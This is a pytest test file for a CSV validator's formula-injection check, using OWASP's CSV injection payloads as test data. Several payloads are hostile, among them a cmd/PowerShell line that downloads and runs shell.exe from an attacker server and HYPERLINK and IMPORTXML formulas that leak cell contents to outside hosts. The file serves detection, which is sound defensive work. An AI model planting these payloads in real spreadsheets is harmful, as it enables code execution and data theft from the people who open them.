"""The formula rule (validate.formulas), both sides, with the OWASP CSV injection payloads.

Expected verdicts are written by hand from the documented rule: a cell is a risk when it
starts with = or @; or with + or - followed by anything but a plain number (or a space and
plain words); or with a tab or CR followed by such a cell.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from conftest import located, run
from validate.formulas import is_formula

# The payloads of OWASP's "CSV Injection" page, and the issue's own examples: each one runs.
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://some-server-with-log.evil?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("https://[remote IP:Port]/images/srpr/logo3w.png")',
    "\t=1+1",
    "\r-3+3+cmd|' /C calc'!A0",
    "\t\r@SUM(A1)",
    "-2+3",
    "-SUM(A1)",
    "+A1",
    "- 2+3",
    "- SUM(A1)",
    "- cmd|' /C calc'!A0",
    "=",
    "@",
]

# Cells a spreadsheet shows as they are, or as a number: none runs.
NOT_FORMULAS = [
    "-",  # ISO 4217's "not applicable", as in datasets/currency-codes
    "+",
    "-5",
    "+5",
    "-1,665",
    "-4.5",
    "+44 20 7946 0000",  # a phone number
    "- text",
    "- a dash used as a bullet, with a comma",
    "\t",
    "\t-5",
    "\r- text",
    "text = more text",
    "a-b",
    "1+1",
    "'=1+1",  # the quote mark spreadsheets read as "this is text"
    "",
]


@pytest.mark.parametrize("cell", OWASP_PAYLOADS)
def test_payloads_are_formulas(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize("cell", NOT_FORMULAS)
def test_plain_cells_are_not_formulas(cell: str) -> None:
    assert not is_formula(cell)


def _package(tmp_path: Path, cells: list[str]) -> Path:
    """A package of one text table, one cell per row, with no claims."""
    root = tmp_path / "package"
    (root / "data").mkdir(parents=True)
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a CR stays inside its cell
    writer.writerow(["id", "note"])
    writer.writerows([[str(i), cell] for i, cell in enumerate(cells)])
    (root / "data" / "notes.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")
    schema = {"fields": [{"name": "id", "type": "integer"}, {"name": "note", "type": "string"}]}
    descriptor = {
        "$schema": "https://datapackage.org/profiles/2.0/datapackage.json",
        "name": "notes",
        "resources": [{"name": "notes", "type": "table", "path": "data/notes.csv", "schema": schema}],
    }
    (root / "datapackage.json").write_text(json.dumps(descriptor, indent=2), encoding="utf-8")
    return root


def test_every_payload_is_one_error_at_its_line_and_no_plain_cell_is(tmp_path: Path) -> None:
    cells = [c for pair in zip(NOT_FORMULAS, OWASP_PAYLOADS, strict=False) for c in pair]
    cells += OWASP_PAYLOADS[len(NOT_FORMULAS) :]
    root = _package(tmp_path, cells)
    code, report = run(root)
    assert code == 1
    # A CR inside a quoted cell is the cell's content: only LF ends a line, so every row is one line.
    assert (root / "data" / "notes.csv").read_bytes().count(b"\n") == len(cells) + 1
    want = {("formula-injection", "data/notes.csv", i + 2, "note") for i, c in enumerate(cells) if c in OWASP_PAYLOADS}
    assert len(want) == len(OWASP_PAYLOADS)
    assert located(report) == want


def test_a_lone_hyphen_is_valid(tmp_path: Path) -> None:
    code, report = run(_package(tmp_path, ["-", "- text", "+44 20 7946 0000", "-5"]))
    assert code == 0, located(report)
